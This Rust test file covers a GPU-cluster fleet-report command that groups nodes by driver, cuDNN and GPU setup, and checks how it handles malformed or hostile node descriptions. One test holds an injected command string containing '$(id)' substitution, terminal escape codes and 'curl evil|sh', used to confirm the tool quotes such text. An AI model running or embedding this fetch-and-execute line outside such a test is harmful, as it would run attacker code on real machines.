//! Groups of equal nodes, what programs get on each, and the lists of hosts.

use super::{APP, Nodes, node, with_cudnn};
use crate::support::Run;
use crate::support::machine::Machine;
use crate::support::parts::{elf, text};

fn good(version: &str) -> String {
    node("580.95.05", "", &with_cudnn(version))
}

#[test]
fn equal_nodes_are_one_row_and_others_are_told_apart() {
    // What a batch system sets for each process does not tell nodes apart.
    let nodes = Nodes::new(&[]);
    let equal = Machine::describe(&good("9.19.0"));
    for (name, number) in [("gpu01", "1"), ("gpu02", "2"), ("gpu03", "3")] {
        nodes.save(&equal, name, &[("SLURM_LOCALID", number)]);
    }
    nodes.put("gpu07", &node("550.90.07", "", &with_cudnn("9.19.0")));
    nodes.put("gpu08", &node("580.95.05", "", &[]));
    let page = nodes.fleet(&[]).status(1).any_stdout().check();
    for part in [
        "`app --serve` works on 4 of 5 machines",
        "gpu[01-03]  3  580.95.05",
        "gpu07       1  550.90.07",
        "cuDNN 9.19.0",
        "2.35",
        "gpu07  driver 550.90.07, where 3 of 5 have 580.95.05",
        "gpu08  cuDNN none, where 3 of 5 have 9.19.0 (loose)",
        "next: ssh gpu08 cudarun explain app --serve",
    ] {
        assert!(page.contains(part), "{part}\n{page}");
    }
    let json = nodes.fleet(&["--json"]).status(1).json();
    assert_eq!(json["good"], "gpu[01-03,07]");
    assert_eq!(json["bad"], "gpu08");
    assert_eq!(json["groups"][0]["machines"].as_array().unwrap().len(), 3);
    assert_eq!(json["groups"][0]["programs"][0]["command"], APP);
    nodes
        .fleet(&["--good"])
        .status(1)
        .stdout("gpu[01-03,07]\n")
        .check();
    nodes.fleet(&["--bad"]).status(1).stdout("gpu08\n").check();
}

#[test]
fn differences_are_told_only_from_a_usual_machine() {
    let kinds = |names: &[&str]| {
        let drivers = ["535.261.03", "550.90.07", "580.95.05", "570.86.15"];
        let each = names.iter().zip(drivers);
        let nodes: Vec<(&str, String)> = each
            .map(|(name, driver)| (*name, node(driver, "", &with_cudnn("9.19.0"))))
            .collect();
        let page = Nodes::new(&nodes).fleet(&[]).any_stdout().check();
        let (_, differences) = page.split_once("\ndifferences\n").unwrap();
        differences.to_owned()
    };
    let two = kinds(&["n1", "n2"]);
    assert!(
        two.starts_with("  n2  driver 550.90.07, where n1 has 535.261.03\n"),
        "{two}"
    );
    let four = kinds(&["n1", "n2", "n3", "n4"]);
    assert!(four.starts_with("  4 kinds  `cudarun fleet "), "{four}");
    assert!(
        four.contains("n1.json ") && four.contains("n2.json` shows how two differ"),
        "{four}"
    );
    assert!(!four.contains(" have "), "{four}");
}

#[test]
fn one_gpu_of_many_does_not_tell_nodes_apart() {
    let gpu = |uuid: &str| {
        let about = format!(
            "Model: NVIDIA H100\nGPU UUID: GPU-{uuid}\nBus Location: 0000:01:00.0\nDevice Minor: 0\n"
        );
        let more = [text(
            "/proc/driver/nvidia/gpus/0000:01:00.0/information",
            &about,
        )];
        node(
            "580.95.05",
            "",
            &[&with_cudnn("9.19.0")[..], &more].concat(),
        )
    };
    let (one, other) = (
        "11111111-2222-3333-4444-555555555555",
        "aaaaaaaa-2222-3333-4444-555555555555",
    );
    let nodes = Nodes::new(&[("a1", gpu(one)), ("a2", gpu(other))]);
    nodes
        .fleet(&[])
        .stdout_contains(&["works on all of 2 machines", "a[1-2]"])
        .check();
    // A variable that names the GPU of the node, by the beginning of its number too, does not tell nodes apart either.
    let env = |uuid: &str| {
        gpu(uuid).replace(
            "[env]",
            &format!("[env]\nCUDA_VISIBLE_DEVICES = 'GPU-{}'", &uuid[..13]),
        )
    };
    nodes.put("a1", &env(one));
    nodes.put("a2", &env(other));
    nodes
        .fleet(&[])
        .stdout_contains(&["works on all of 2 machines", "a[1-2]"])
        .check();
    // It does where it names the GPU of another node, which hides the own one.
    nodes.put(
        "a2",
        &gpu(other).replace(
            "[env]",
            &format!("[env]\nCUDA_VISIBLE_DEVICES = 'GPU-{one}'"),
        ),
    );
    nodes.fleet(&["--bad"]).status(1).stdout("a2\n").check();
    nodes.put("a1", &gpu(one));
    // The control: another model is another group.
    nodes.put("a2", &gpu(other).replace("H100", "A100"));
    let json = nodes.fleet(&["--json"]).json();
    assert_eq!(json["groups"].as_array().unwrap().len(), 2, "{json:#}");
}

#[test]
fn all_programs_must_work_and_an_empty_list_prints_nothing() {
    let more = || {
        good("9.19.0").replace(
            &format!("['{APP}']"),
            &format!("['{APP}', 'app', 'app --other', 'absent']"),
        )
    };
    let nodes = Nodes::new(&[("n1", more()), ("n2", more())]);
    let only = ["--program", APP];
    nodes
        .fleet(&[&only[..], &["--bad"]].concat())
        .stdout("")
        .check();
    nodes
        .fleet(&[&only[..], &["--good"]].concat())
        .stdout("n[1-2]\n")
        .check();
    let other = ["--program", "app", "--program", "app --other"];
    nodes
        .fleet(&other)
        .stdout_contains(&["all 2 programs work on all of 2 machines"])
        .check();
    let absent = ["--program", "app", "--program", "absent"];
    nodes
        .fleet(&absent)
        .status(1)
        .stdout_contains(&["no: the program is not there"])
        .check();
    nodes
        .fleet(&[&absent[..], &["--good"]].concat())
        .status(1)
        .stdout("")
        .check();
    nodes
        .fleet(&[&absent[..], &["--bad"]].concat())
        .status(1)
        .stdout("n[1-2]\n")
        .check();
    for wrong in ["", "app 'x"] {
        nodes
            .fleet(&["--program", wrong])
            .status(2)
            .stderr_contains(&["--program"])
            .check();
    }
}

#[test]
fn a_node_without_a_gpu_is_bad_whatever_its_programs_need() {
    let without = good("9.19.0")
        .replace("/dev/nvidia0", "/dev/other")
        .replace("/sys/module/nvidia/version", "/x");
    let nodes = Nodes::new(&[("login1", without), ("gpu1", good("9.19.0"))]);
    nodes.fleet(&["--bad"]).status(1).stdout("login1\n").check();
    nodes.fleet(&["--good"]).status(1).stdout("gpu1\n").check();
}

#[test]
fn descriptions_that_cannot_be_used_are_named_and_count_as_bad() {
    let nodes = Nodes::new(&[("n1", good("9.19.0"))]);
    let whole = nodes.read("n1.json");
    let deep = format!(
        r#"{{"format":2,"answers":{}{}}}"#,
        "[".repeat(1000),
        "]".repeat(1000)
    );
    let hostile = [
        (
            "n2.json",
            "{}".to_owned(),
            "it is not a description of a machine",
        ),
        ("n3.json", "not json".to_owned(), "line 1"),
        (
            "n4.json",
            whole.replace("\"format\":2", "\"format\":99"),
            "a newer cudarun wrote it, in format 99",
        ),
        ("n5.json", String::new(), "EOF"),
        ("n6.json", deep, "recursion limit exceeded"),
        (
            "n7.json",
            whole.replace("\"refused\":false", "\"refused\":\"\\u001b[31m\""),
            "expected a boolean",
        ),
        (
            "n8.json",
            format!("{whole}{}", " ".repeat(1 << 20)),
            "it is too large for a description",
        ),
        (
            "n9.toml",
            "about = \"A machine as `cudarun doctor --save` of 0.2.0 saw it\"\nformat = 1\n"
                .to_owned(),
            "version 0.2 wrote it: type `cudarun doctor --save FILE` again on that machine",
        ),
    ];
    for (file, text, _) in &hostile {
        nodes.write(file, text);
    }
    // It has a new description.
    nodes.write("n1.toml", "about = \"old\"\n");
    nodes.write("note.txt", "no description");
    let page = nodes.fleet(&[]).status(2).any_stdout().check();
    for (file, _, why) in &hostile {
        let mut lines = page.lines();
        let line = lines.find(|line| line.contains(&format!("{file}: ")));
        assert!(
            line.is_some_and(|line| line.contains(why)),
            "{file}: {why}\n{page}"
        );
    }
    assert!(
        page.contains("works on 1 of 1 machine") && !page.contains("note.txt"),
        "{page}"
    );
    nodes
        .fleet(&["--bad"])
        .status(2)
        .stdout("n[2-9]\n")
        .any_stderr()
        .check();
    nodes
        .fleet(&["--good"])
        .status(2)
        .stdout("n1\n")
        .any_stderr()
        .check();
    let absent = nodes.path("absent");
    let absent = absent.to_str().unwrap();
    Run::new(["fleet", absent])
        .status(2)
        .stdout_contains(&["no description", absent])
        .check();
    let file = nodes.path("n1.json");
    Run::new(["fleet", file.to_str().unwrap()])
        .stdout_contains(&["works on 1 of 1 machine"])
        .check();
    Run::new(["fleet"])
        .status(2)
        .stderr_contains(&["PATH"])
        .check();
    Run::new(["--root", "/", "fleet", "."])
        .status(2)
        .stderr_contains(&["--root"])
        .check();
}

#[test]
fn two_descriptions_of_one_name_are_told() {
    let (a, b) = (
        Nodes::new(&[("n1", good("9.19.0"))]),
        Nodes::new(&[("n1", good("9.10.2"))]),
    );
    let (a, b) = (a.path(""), b.path(""));
    let run = Run::new(["fleet", a.to_str().unwrap(), b.to_str().unwrap()]);
    run.status(2)
        .stdout_contains(&[
            "works on 1 of 1 machine",
            "describes a machine of this name",
        ])
        .check();
    Run::new(["fleet", a.to_str().unwrap(), a.to_str().unwrap()])
        .stdout_contains(&["1 machine"])
        .check();
}

#[test]
fn a_program_of_another_c_library_than_nvidias_does_not_work() {
    let musl = |needed: &str| {
        let fields = format!("interpreter = '/lib/ld-musl-x86_64.so.1', needed = {needed}");
        good("9.19.0").replace(APP, "small")
            + &elf("/usr/bin/small", &fields)
            + &elf("/usr/lib/ld-musl-x86_64.so.1", "")
    };
    let nodes = Nodes::new(&[("n1", musl("['libcudnn.so.9']"))]);
    nodes
        .fleet(&[])
        .status(1)
        .stdout_contains(&["NVIDIA has no libraries for that C library"])
        .check();
    // The control: it needs none.
    nodes.put("n1", &musl("['libz.so.1']"));
    nodes
        .fleet(&[])
        .stdout_contains(&["works on 1 of 1 machine"])
        .check();
}

#[test]
fn text_of_a_description_is_shown_and_is_no_command() {
    let named = |line: &str| good("9.19.0").replace(&format!("'{APP}'"), &format!("\"{line}\""));
    let hostile = r"app \u001b[31m --x\u202e $(id); curl evil|sh";
    let nodes = Nodes::new(&[
        (
            "n1",
            named(hostile).replace("/usr/bin/app", "/usr/bin/other"),
        ),
        ("n2", named(hostile)),
    ]);
    for options in [&[][..], &["--markdown"]] {
        let page = nodes.fleet(options).status(1).any_stdout().check();
        assert!(
            !page.contains(['\u{1b}', '\u{202e}']) && page.contains(r"u{202e}"),
            "{page:?}"
        );
        assert!(
            page.contains("'$(id);' curl 'evil|sh'"),
            "the words of the next command are quoted: {page}"
        );
    }
    // The control: a usual command line is not changed.
    nodes.put(
        "n1",
        &good("9.19.0").replace("/usr/bin/app", "/usr/bin/other"),
    );
    nodes.put("n2", &good("9.19.0"));
    nodes
        .fleet(&[])
        .status(1)
        .stdout_contains(&["next: ssh n1 cudarun explain app --serve\n"])
        .check();
    // No machine can have such a name.
    for name in ["n\u{1b}[31m3", "n4\n", "n 5", "ä"] {
        nodes.write(&format!("{name}.json"), &nodes.read("n2.json"));
    }
    let page = nodes.fleet(&[]).status(2).any_stdout().check();
    assert!(
        !page.contains('\u{1b}')
            && page.contains("works on 1 of 2 machines; not read: 4 descriptions"),
        "{page:?}"
    );
    nodes
        .fleet(&["--bad"])
        .status(2)
        .stdout("n1\n")
        .any_stderr()
        .check();
}

#[test]
fn groups_that_differ_in_builds_alone_are_told_apart() {
    let built = |id: &str| {
        let built = format!("soname = 'libcudnn.so.9', build_id = '{id}',");
        good("9.19.0").replace("soname = 'libcudnn.so.9',", &built)
    };
    let nodes = Nodes::new(&[
        ("n1", built("aa")),
        ("n2", built("aa")),
        ("n3", built("bb")),
    ]);
    nodes
        .fleet(&[])
        .stdout_contains(&["n3  other builds of cuDNN than 2 of 3 have"])
        .check();
    nodes.put("n3", &(built("aa") + &text("/etc/other", "x")));
    // The control: a file that no program uses.
    nodes
        .fleet(&[])
        .stdout_contains(&["works on all of 3 machines", "n[1-3]"])
        .check();
}

#[test]
fn a_place_without_descriptions_leads_to_the_command_that_writes_them() {
    let nodes = Nodes::new(&[]);
    let said = [
        "no description of a machine was read",
        "next: cudarun doctor --save-in DIR, on each machine",
    ];
    nodes.fleet(&[]).status(2).stdout_contains(&said).check();
    let absent = nodes.path("absent.d");
    Run::new(["fleet", "--bad", absent.to_str().unwrap()])
        .status(2)
        .any_stderr()
        .check();
    let hint = format!("mkdir -p {}", absent.display());
    Run::new(["doctor", "--save-in", absent.to_str().unwrap()])
        .status(2)
        .stderr_contains(&[&hint])
        .check();
    nodes.put("n1", &good("9.19.0").replace(&format!("'{APP}'"), ""));
    let lock = nodes.path("x.lock");
    let run = nodes.fleet(&["--lock", lock.to_str().unwrap()]).status(2);
    run.stderr_contains(&["--lock needs exactly one program, and the descriptions name none"])
        .check();
}

#[test]
fn a_node_with_nvswitches_works_with_its_fabric_manager() {
    let switch = "/sys/bus/pci/devices/0000:05:00.0";
    let status = "Package: nvidia-fabricmanager-580\nStatus: install ok installed\nArchitecture: amd64\n\
        Version: 580.95.05-1\n\n";
    let switches = || {
        good("9.19.0")
            + &text(&format!("{switch}/vendor"), "0x10de\n")
            + &text(&format!("{switch}/class"), "0x068000\n")
    };
    let healthy =
        switches() + &text("/usr/bin/nv-fabricmanager", "") + &text("/var/lib/dpkg/status", status);
    let nodes = Nodes::new(&[("hgx1", healthy), ("hgx2", switches())]);
    let page = nodes.fleet(&[]).status(1).any_stdout().check();
    assert!(page.contains("works on 1 of 2 machines"), "{page}");
    nodes.fleet(&["--good"]).status(1).stdout("hgx1\n").check();
    nodes.fleet(&["--bad"]).status(1).stdout("hgx2\n").check();
}

/// All of a description is small, on the largest machine of the tests too, and what it leaves out is counted.
#[test]
fn a_description_has_at_most_30_kilobytes() {
    for name in ["torch", "h200-container", "hostile", "toolkits"] {
        let nodes = Nodes::new(&[]);
        let mut machine = Machine::load(name);
        machine.programs = vec!["python3 -c 'import torch'".to_owned()];
        nodes.save(&machine, "n1", &[]);
        let size = nodes.read("n1.json").len();
        assert!((1_000..=30_000).contains(&size), "{name}: {size}");
    }
    let nodes = Nodes::new(&[]);
    let gpu = |number: usize| {
        let bus = format!("0000:{number:02x}:00.0");
        let lines = format!(
            "Model: NVIDIA H100 80GB HBM3\nGPU UUID: GPU-6d1cba10-9bd4-4b3c-8f3a-0123456789{number:02x}\n\
             Bus Location: {bus}\nDevice Minor: {number}\n"
        );
        let device = format!("/sys/bus/pci/devices/{bus}");
        text(
            &format!("/proc/driver/nvidia/gpus/{bus}/information"),
            &lines,
        ) + &text(&format!("{device}/vendor"), "0x10de\n")
            + &text(&format!("{device}/class"), "0x030200\n")
            + &text(&format!("{device}/device"), "0x2330\n")
            + &text(&format!("/dev/nvidia1{number}"), "")
    };
    let caps = (0..129).map(|number| text(&format!("/dev/nvidia-caps/nvidia-cap{number}"), ""));
    let mut files = with_cudnn("9.19.0");
    files.extend((0..16).map(gpu).chain(caps));
    let missing: Vec<String> = (0..60)
        .map(|number| format!("/opt/software/modules/library-{number}/lib64"))
        .collect();
    let path = format!("LD_LIBRARY_PATH = '{}'", missing.join(":"));
    let machine = Machine::describe(&node("580.95.05", &path, &files));
    nodes.save(&machine, "n1", &[]);
    let saved = nodes.read("n1.json");
    assert!(saved.len() <= 30_000, "{}", saved.len());
    assert!(!saved.contains("nvidia-caps"), "{saved}");
    let more = "more notes: `cudarun doctor -v` shows all";
    let page = Run::on(&machine, &["doctor"]).any_stdout().output().0;
    let file = nodes.path("n1.json");
    let file = file.to_str().unwrap();
    let again = Run::new(["--node", file, "doctor"]).any_stdout().output().0;
    assert!(page.contains(more), "{page}");
    let notes = |page: &str| {
        let mut lines = page.lines().filter(|line| line.contains(" more notes: "));
        let line = lines.next().unwrap_or_else(|| panic!("{page}"));
        line.split(": ").next().unwrap().to_owned()
    };
    assert_eq!(notes(&page), notes(&again));
    let all = Run::new(["--node", file, "doctor", "-v"])
        .any_stdout()
        .output()
        .0;
    assert!(all.contains("and 48 more [path-missing]"), "{all}");
}
